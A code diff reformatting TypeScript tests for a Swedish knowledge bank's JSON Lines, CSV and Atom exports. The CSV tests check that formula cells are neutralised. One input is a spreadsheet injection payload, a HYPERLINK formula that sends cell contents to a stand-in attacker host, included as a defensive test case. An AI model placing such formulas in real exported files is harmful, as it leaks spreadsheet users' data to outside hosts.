@@ -16,7 +16,8 @@ const data = (overrides: Record<string, unknown> = {}) =>
   });
 
 const SITE = "https://kunskapsbanken.example.se";
-const record = (overrides: Record<string, unknown> = {}, body = "## Vad är det?\n\nText.\n") => openPracticeOf({ data: data(overrides), body }, SITE);
+const record = (overrides: Record<string, unknown> = {}, body = "## Vad är det?\n\nText.\n") =>
+  openPracticeOf({ data: data(overrides), body }, SITE);
 
 /** Parses the CSV as a spreadsheet would: BOM, semicolons, quoted cells with doubled quotes. */
 function readCsv(text: string): string[][] {
@@ -64,7 +65,9 @@ describe("open-data records", () => {
   });
 
   it("JSON Lines has one parseable record a line", () => {
-    const lines = toJsonLines([record(), record({ id: "flen-annat" })]).trimEnd().split("\n");
+    const lines = toJsonLines([record(), record({ id: "flen-annat" })])
+      .trimEnd()
+      .split("\n");
     expect(lines.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(["flen-sprakvanner", "flen-annat"]);
   });
 });
@@ -73,20 +76,24 @@ describe("CSV for Swedish Excel", () => {
   it("has a BOM, semicolons, Swedish headings and labels next to ids", () => {
     const [header, row] = readCsv(toSpreadsheet([record()]));
     expect(header?.slice(0, 5)).toEqual(["id", "Rubrik", "Sammanfattning", "Kommuner", "Kommun-id"]);
-    expect(row?.slice(0, 5)).toEqual(["flen-sprakvanner", 'Språkvänner "i grupp"; Flen', "En mening med semikolon; och <tecken> & annat.", "Flen", "flen"]);
+    expect(row?.slice(0, 5)).toEqual([
+      "flen-sprakvanner",
+      'Språkvänner "i grupp"; Flen',
+      "En mening med semikolon; och <tecken> & annat.",
+      "Flen",
+      "flen",
+    ]);
     expect(row).toContain("Pågående");
     expect(row).toContain("aldrig");
   });
 
-  it.each([
-    ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")'],
-    ["+46 70 123 45 67 ringer"],
-    ["-2+3 är en formel"],
-    ["@SUM(A1:A2) också"],
-  ])("neutralises the formula cell %s", (title) => {
-    const [, row] = readCsv(toSpreadsheet([record({ title })]));
-    expect(row?.[1]).toBe(`'${title}`);
-  });
+  it.each([['=HYPERLINK("http://evil.example/?"&A1,"Klicka")'], ["+46 70 123 45 67 ringer"], ["-2+3 är en formel"], ["@SUM(A1:A2) också"]])(
+    "neutralises the formula cell %s",
+    (title) => {
+      const [, row] = readCsv(toSpreadsheet([record({ title })]));
+      expect(row?.[1]).toBe(`'${title}`);
+    },
+  );
 });
 
 describe("Atom feed", () => {
@@ -116,7 +123,10 @@ describe("Atom feed", () => {
   });
 
   it("puts a practice first when it has been confirmed most recently", () => {
-    const confirmed = record({ id: "flen-bekraftad", confirmed: { date: "2027-03-01", role: "integrationsstrateg", organisation: "Flens kommun" } });
+    const confirmed = record({
+      id: "flen-bekraftad",
+      confirmed: { date: "2027-03-01", role: "integrationsstrateg", organisation: "Flens kommun" },
+    });
     const feed = toAtom([record(), confirmed], SITE, "Kunskapsbanken");
     expect(feed.indexOf("flen-bekraftad")).toBeLessThan(feed.indexOf("flen-sprakvanner<"));
   });
